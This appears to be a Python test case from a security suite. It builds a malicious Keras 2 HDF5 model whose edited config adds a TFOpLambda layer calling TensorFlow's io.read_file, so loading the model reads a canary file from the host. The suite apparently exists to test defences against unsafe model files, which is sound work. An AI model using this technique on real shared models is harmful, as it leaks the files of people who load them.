"""Keras 2 writes calls of TensorFlow by name; any public function can be named, also one that reads files."""

from __future__ import annotations

import json

import h5py
import tf_keras

from tests.attacks.canaries import Canaries
from tests.attacks.kit import FILES, Attack, Upload
from tests.attacks.making import content_of

ATTACK = Attack(
    "read a file through a function of TensorFlow named by Keras 2", "model_unsafe", FILES, ("`sneak`", "io.read_file"),
    "tf_keras", breaches=True,
)  # fmt: skip


def make(canaries: Canaries) -> Upload:
    inputs = tf_keras.Input((4,), name="table")
    model = tf_keras.Model(inputs, tf_keras.layers.Dense(2, name="head")(inputs))
    call = {"class_name": "TFOpLambda", "name": "sneak", "config": {"name": "sneak", "function": "io.read_file"},
            "inbound_nodes": [["_CONSTANT_VALUE", -1, str(canaries.text), {}]]}  # fmt: skip

    def write(path: object) -> None:
        model.save(path)
        with h5py.File(path, "r+") as file:
            config = json.loads(file.attrs["model_config"])
            config["config"]["layers"].append(call)
            config["config"]["output_layers"].append(["sneak", 0, 0])
            file.attrs["model_config"] = json.dumps(config)

    return Upload(content_of(write, "m.h5"), "model.h5")
